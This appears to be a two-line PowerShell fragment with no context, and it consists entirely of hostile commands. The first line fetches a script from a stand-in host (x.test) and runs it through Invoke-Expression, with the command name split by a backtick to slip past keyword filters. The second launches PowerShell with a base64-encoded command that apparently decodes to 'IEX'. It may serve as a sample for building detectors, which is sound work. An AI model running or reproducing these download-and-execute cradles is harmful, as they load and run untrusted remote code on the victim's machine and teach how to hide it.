$u = 'https://x.test'; i`ex ((New-Object Net.WebClient).DownloadString($u + '/a'))
powershell -enc SQBFAFgA
